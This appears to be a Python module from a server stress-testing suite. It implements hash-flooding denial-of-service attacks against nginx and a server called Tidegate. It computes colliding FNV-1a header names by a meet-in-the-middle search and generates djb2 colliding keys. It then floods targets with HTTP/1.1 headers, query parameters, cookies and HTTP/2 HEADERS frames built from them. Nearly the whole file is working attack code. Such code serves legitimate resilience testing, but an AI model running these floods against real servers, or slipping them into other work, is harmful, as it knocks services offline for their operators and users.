"""Attacks with keys that hash tables put in one place.

What a target really hashes of what clients choose: nginx nothing (fields,
parameters and cookies are lists there, and the keys of its limits lie in a tree
under their CRC-32). Tidegate the names of fields, in `http::HeaderMap`, by
FNV-1a without a secret until it sees that names collide and takes SipHash with
one; and the keys of limits and clients, by SipHash with a secret of the process.
"""

import itertools

import floods
import h2
import heads

# What HeaderMap looks at of a hash: the places of the largest table.
BITS = 15
MASK, PRIME, OFFSET = (1 << BITS) - 1, 0x100000001B3 & ((1 << BITS) - 1), 0x2325
# A name that is not of the standard is hashed after the number of its variant.
BEFORE = (1).to_bytes(8, "little")

# Below `limits.header_count`, and just below the most that it takes.
FEW, MANY = 90, 250
# What fits into a frame, and counts (RFC 9113 §6.5.2) less than `limits.headers`.
MOST_IN_H2 = 1200


def fields(port, seconds):
    """Names of fields that `http::HeaderMap` puts in one place; cookies, parameters and keys of
    limits that have one hash of Bernstein's."""
    names = fnv_names(MANY)
    keys = djb2_names(8)
    query = "/small?" + "&".join(f"{key}=1" for key in keys)
    cookies = "Cookie: " + "; ".join(f"{key}=1" for key in keys) + "\r\n"
    few = "".join(f"{name}: y\r\n" for name in names[:FEW])
    many = "".join(f"{name}: y\r\n" for name in names)

    def make(n):
        key = keys[n // 2 % len(keys)]
        own = f"X-User: {key}\r\n"
        if n % 2:
            return heads.request(fields=many + own)
        return heads.request(query, few + cookies + own)

    what = f"heads with {FEW} or {MANY} such names"
    return heads.flood_anew(port, seconds, 400, make, what=what)


def fields_over_h2(port, seconds):
    """The same names, as many as a block has room for: they are in a map before they are counted."""
    many = b"".join(h2.field(name.encode(), b"y") for name in fnv_names(MOST_IN_H2))

    def make(line):
        flags = h2.END_HEADERS | h2.END_STREAM
        line.stream = getattr(line, "stream", -1) + 2
        return h2.frame(h2.HEADERS, flags, line.stream, h2.request() + many)

    return floods.flood(port, seconds, 200, make, f"heads with {MOST_IN_H2:,} such names")


def fnv(text, state=OFFSET):
    """The bits of FNV-1a that count; they depend on nothing above them."""
    for byte in text:
        state = ((state ^ byte) * PRIME) & MASK
    return state


def fnv_names(count):
    """Names of fields of one place. They meet in the middle: forward from the start, and
    backward from an end in which all of these bits are 0."""
    inverse = pow(PRIME, -1, MASK + 1)
    parts = list(itertools.product(b"abcdefghijklmnopqrstuvwxyz", repeat=3))
    start, forward = fnv(BEFORE), {}
    for part in parts:
        forward.setdefault(fnv(part, start), []).append(part)

    def meet():
        for part in parts:
            state = 0
            for byte in reversed(part):
                state = ((state * inverse) & MASK) ^ byte
            for first in forward.get(state, ()):
                yield bytes(first + part).decode()

    return list(itertools.islice(meet(), count))


def djb2_names(pairs):
    """Keys with one hash of Bernstein's (times 33): "Ez" and "FY" have the same."""
    return ["".join(name) for name in itertools.product(("Ez", "FY"), repeat=pairs)]
